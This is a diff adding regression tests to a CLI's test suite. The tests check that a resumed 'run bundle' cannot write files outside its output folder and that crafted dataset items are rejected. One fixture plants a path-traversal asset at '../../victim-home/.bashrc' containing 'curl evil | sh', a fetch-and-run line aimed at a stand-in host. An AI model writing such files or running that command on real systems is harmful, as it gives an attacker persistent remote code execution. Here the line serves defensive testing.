@@ -132,6 +132,29 @@ describe('one runner per --out folder (issue #28 item 5)', () => {
   }, 60_000);
 });
 
+describe('a run bundle cannot write outside --out (issue #28 item 1)', () => {
+  it('refuses a bundle whose package assets name paths outside the folder, or whose items are crafted, and writes nothing', async () => {
+    const made = await cli(['train', '--config', 'a.json', '--out', 'bundle-src']);
+    expect([0, 100]).toContain(made.code);
+    const good = JSON.parse(readFileSync(join(dir, 'bundle-src', 'run-bundle.json'), 'utf8'));
+    const evil = structuredClone(good);
+    evil.run.skillPackage = { name: 'pkg', frontmatter: '', assets: [{ path: '../../victim-home/.bashrc', data: 'curl evil | sh\n' }] };
+    writeFileSync(join(dir, 'evil-bundle.json'), JSON.stringify(evil));
+    const r = await cli(['resume', '--bundle', 'evil-bundle.json', '--config', 'a.json', '--out', 'evil-out/o']);
+    expect(r.code, r.stderr).toBe(2);
+    expect(r.stderr).toMatch(/run\.skillPackage\.assets\.0\.path: must be a normalised path inside the package/);
+    expect(existsSync(join(dir, 'victim-home'))).toBe(false);
+    expect(existsSync(join(dir, 'evil-out', 'o', 'run.jsonl'))).toBe(false);
+    // An item without its fields used to crash the runner after the paid run, on every rerun.
+    const crafted = structuredClone(good);
+    delete crafted.dataset.items[0].fields;
+    writeFileSync(join(dir, 'crafted-bundle.json'), JSON.stringify(crafted));
+    const c = await cli(['resume', '--bundle', 'crafted-bundle.json', '--config', 'a.json', '--out', 'crafted-out']);
+    expect(c.code, c.stderr).toBe(2);
+    expect(c.stderr).toMatch(/dataset\.items\.0\.fields/);
+  }, 60_000);
+});
+
 describe('checked before anything is spent (issue #28 LOW)', () => {
   it('refuses a bad --min-lift before any call', async () => {
     const calls = a.log.length;
